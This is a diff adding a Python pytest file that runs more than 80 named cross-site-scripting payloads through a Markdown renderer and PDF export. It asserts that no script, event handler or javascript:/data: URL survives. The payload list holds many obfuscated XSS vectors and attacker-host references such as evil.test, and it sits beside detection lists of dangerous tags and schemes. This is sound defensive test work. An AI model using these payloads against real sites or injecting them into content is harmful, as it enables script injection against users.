@@ -1,0 +1,221 @@
+"""The Markdown XSS corpus (issue 11 item 7): every payload renders nothing executable, through the one renderer
+(kernel/markdown.py), through the real pages that show user text (a PR/FAQ's part and a comment on it, a
+narrative), and through the PDF export.
+
+Each rendering is parsed with html.parser (never only searched for substrings): no element that runs or loads
+something (script, iframe, object, embed, svg, math, style, form, meta, base, ...), no on* attribute, no URL
+attribute whose value, once entities are decoded and whitespace and control characters taken out, starts with
+javascript:, vbscript: or data:. A page is compared with the same page showing harmless text, so the shell's own
+forms and scripts are not findings. In a PDF, every stream is inflated and searched for what acts (/JavaScript,
+/JS, /Launch, /OpenAction, /AA, /SubmitForm, embedded files, a URI action with another scheme than the web's)."""
+
+from __future__ import annotations
+
+import re
+from collections import Counter
+from html.parser import HTMLParser
+
+import pytest
+
+from mechanisms.kernel.markdown import render
+from mechanisms.kernel.pdf import html_to_pdf
+from mechanisms.kernel.testing import pdf_threats
+
+SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
+HTML_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
+
+# (name, Markdown). The names say what each tries.
+PAYLOADS: list[tuple[str, str]] = [
+    ("script tag", "<script>alert(1)</script>"),
+    ("script tag upper case with src", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"),
+    ("script split by script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("script nested angle", "<<script>script>alert(1)<</script>/script>"),
+    ("script escaped by backslash", "\\<script>alert(1)\\</script>"),
+    ("script in an html block", "<div>\n<script>alert(1)</script>\n</div>"),
+    ("script in a comment", "<!--<script>alert(1)</script>-->"),
+    ("script in cdata", "<![CDATA[<script>alert(1)</script>]]>"),
+    ("script in template", "<template><script>alert(1)</script></template>"),
+    ("img onerror", "<img src=x onerror=alert(1)>"),
+    ("img onerror entity equals", '<img src="x" onerror&#61;alert(1)>'),
+    ("img javascript src", "<IMG SRC=\"javascript:alert('XSS');\">"),
+    ("svg onload", "<svg onload=alert(1)>"),
+    ("svg script", "<svg><script>alert(1)</script></svg>"),
+    ("svg xlink href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
+    ("svg animate to javascript", "<svg><animate attributeName=href to=javascript:alert(1) /><a>x</a></svg>"),
+    ("mathml href", '<math href="javascript:alert(1)">CLICK</math>'),
+    ("mathml mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("noscript mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
+    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
+    ("iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'),
+    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("object data", '<object data="javascript:alert(1)"></object>'),
+    ("embed data html", f'<embed src="data:text/html;base64,{HTML_B64}">'),
+    ("raw anchor javascript", '<a href="javascript:alert(1)">x</a>'),
+    ("raw anchor entity scheme", '<a href="&#x6A;avascript:alert(1)">x</a>'),
+    ("raw anchor named entities", '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>'),
+    ("raw anchor onclick", '<a href="https://ok.test" onclick="alert(1)">x</a>'),
+    ("details ontoggle", "<details open ontoggle=alert(1)>"),
+    ("body onload", "<body onload=alert(1)>"),
+    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
+    ("video source onerror", '<video><source onerror="alert(1)"></video>'),
+    ("style element import", "<style>@import 'https://evil.test/x.css';</style>"),
+    ("style attribute url", '<div style="background:url(javascript:alert(1))">x</div>'),
+    ("style attribute expression", '<p style="width:expression(alert(1))">x</p>'),
+    ("style attribute overlay", '<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">over</a>'),
+    ("form action", '<form action="javascript:alert(1)"><button>go</button></form>'),
+    ("button formaction", '<button formaction="javascript:alert(1)">x</button>'),
+    ("input image onerror", '<input type="image" src="x" onerror="alert(1)">'),
+    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
+    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+    ("base href", '<base href="javascript:alert(1)//">'),
+    ("link stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
+    ("link javascript", "[click](javascript:alert(1))"),
+    ("link mixed case", "[click](JaVaScRiPt:alert(1))"),
+    ("link tab inside the scheme", "[click](jav&#x09;ascript:alert(1))"),
+    ("link decimal entities", "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
+    ("link named colon entity", "[click](javascript&colon;alert(1))"),
+    ("link leading space", "[click]( javascript:alert(1))"),
+    ("link angle destination", "[click](<javascript:alert(1)>)"),
+    ("link javascript comment newline", "[click](javascript://%0aalert(1))"),
+    ("link zero width space", "[click](\u200bjavascript:alert(1))"),
+    ("link line separator", "[click](javascript\u2028:alert(1))"),
+    ("link vbscript", "[click](vbscript:msgbox(1))"),
+    ("link data html", f"[click](data:text/html;base64,{HTML_B64})"),
+    ("link data url-encoded", "[click](data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C%2Fscript%3E)"),
+    ("image javascript", "![img](javascript:alert(1))"),
+    ("image data svg", f"![img](data:image/svg+xml;base64,{SVG_B64})"),
+    ("image data png", "![img](data:image/png;base64,iVBORw0KGgo=)"),
+    ("autolink javascript", "<javascript:alert(1)>"),
+    ("autolink vbscript", "<vbscript:msgbox(1)>"),
+    ("autolink data", "<data:text/html,<script>alert(1)</script>>"),
+    ("reference link javascript", "[x][r]\n\n[r]: javascript:alert(1)"),
+    ("reference image javascript with title", '![x][r]\n\n[r]: javascript:alert(1) "t"'),
+    ("link title breaks out of the attribute", '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")'),
+    ("link title single quotes", "[x](https://ok.test 'a\" onclick=alert(1) x=\"')"),
+    ("link url breaks out of the attribute", '[x](https://ok.test/"onmouseover="alert(1))'),
+    ("image alt breaks out of the attribute", '![" onerror="alert(1)](https://ok.test/i.png)'),
+    ("table cell img", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
+    ("code span keeps it text", "`<script>alert(1)</script>`"),
+    ("fenced code keeps it text", "```html\n<script>alert(1)</script>\n```"),
+    ("attribute breakout", '"><script>alert(1)</script>'),
+    ("textarea breakout", "</textarea><script>alert(1)</script>"),
+    ("title breakout", "</title><script>alert(1)</script>"),
+    ("javascript string breakout", "';alert(1)//\";alert(1)//"),
+    ("template variable", "{{ request.user.password }}"),
+    ("template arithmetic", "{{ 7 * 7 }} and ${7 * 7} and #{7 * 7}"),
+    ("template tag", "{% debug %}{% load static %}"),
+    ("nul in a link", "[x](java\x00script:alert(1))"),
+    ("bidi override", "[x](https://ok.test/\u202egnp.exe)"),
+    ("fullwidth scheme", "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))"),
+]
+
+# Rendered, these must come back as the very text typed: nothing evaluates it.
+LITERAL = {
+    "template variable": "{{ request.user.password }}",
+    "template arithmetic": "{{ 7 * 7 }}",
+    "template tag": "{% debug %}",
+}
+
+FORBIDDEN_TAGS = frozenset(
+    {
+        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "form", "input",
+        "button", "textarea", "select", "meta", "base", "link", "isindex", "template", "noscript", "xmp", "video",
+        "audio", "source", "portal", "animate", "set", "image",
+    }
+)  # fmt: skip
+URL_ATTRIBUTES = frozenset(
+    {
+        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping",
+        "cite", "codebase", "dynsrc", "lowsrc", "manifest", "icon", "longdesc", "usemap", "profile", "classid",
+        "archive", "to", "from", "values", "by", "content",
+    }
+)  # fmt: skip
+BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
+# Taken out of a URL before its scheme is judged, as browsers do: C0 controls, space, DEL, C1 controls, and the
+# invisible characters a scheme can hide behind.
+INVISIBLE = re.compile("[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]")
+
+
+class _Scan(HTMLParser):
+    """Every executable thing in an HTML text, as counted findings (html.parser decodes entities in attributes)."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: Counter[str] = Counter()
+
+    def handle_starttag(self, tag, attrs):
+        self._element(tag, attrs)
+
+    def handle_startendtag(self, tag, attrs):
+        self._element(tag, attrs)
+
+    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in FORBIDDEN_TAGS:
+            self.found[f"<{tag} {' '.join(sorted(name for name, _ in attrs))}>"] += 1
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.found[f"<{tag} {name}=...>"] += 1
+            if name in ("srcdoc",):
+                self.found[f"<{tag} {name}>"] += 1
+            text = INVISIBLE.sub("", value or "").lower()
+            if name in URL_ATTRIBUTES and (text.startswith(BAD_SCHEMES) or re.search(r"url=\s*javascript:", text)):
+                self.found[f"<{tag} {name}={text[:40]}>"] += 1
+            if name == "style" and re.search(r"expression\(|javascript:|url\(|position:\s*fixed", text):
+                self.found[f"<{tag} style={text[:40]}>"] += 1
+
+
+def findings(html: str) -> Counter[str]:
+    """What in this HTML could run or load something, counted."""
+    scan = _Scan()
+    scan.feed(html)
+    scan.close()
+    return scan.found
+
+
+def new_findings(html: str, baseline: str) -> Counter[str]:
+    """Findings of a page that the same page with harmless text does not have (the shell's own forms, scripts)."""
+    return findings(html) - findings(baseline)
+
+
+IDS = [name for name, _ in PAYLOADS]
+
+
+def test_the_corpus_is_at_least_fifty_payloads_each_named_once():
+    assert len(PAYLOADS) >= 50
+    assert len(set(IDS)) == len(IDS)
+
+
+def test_the_scanner_finds_what_it_must():
+    # The checks can fail: each of these is a finding.
+    for bad in (
+        "<script>x</script>",
+        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
+        '<a href="&#x6A;avascript:x">x</a>',
+        "<img src=x onerror=alert(1)>",
+        '<p style="width:expression(alert(1))">x</p>',
+        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+        '<a href="data:text/html,x">x</a>',
+        "<svg/onload=alert(1)>",
+    ):
+        assert findings(bad), bad
+    assert not findings('<p><a href="https://ok.test" title="a&quot; onmouseover=&quot;x">x</a></p>')
+
+
+@pytest.mark.parametrize(("name", "payload"), PAYLOADS, ids=IDS)
+def test_the_renderer_outputs_nothing_executable(name, payload):
+    html = render(payload)
+    assert not findings(html), f"{name}: {html!r}"
+    if name in LITERAL:
+        assert LITERAL[name] in html
+
+
+def test_the_pdf_of_every_payload_never_acts():
+    # One PDF per payload (a payload can only break its own document), through the same stylesheet and fetcher as
+    # every PDF door.
+    bad = {}
+    for name, payload in PAYLOADS:
+        pdf = html_to_pdf(f"<h1>{name}</h1><section>{render(payload)}</section>")
+        threats = pdf_threats(pdf)
+        if threats:
+            bad[name] = threats
+    assert not bad
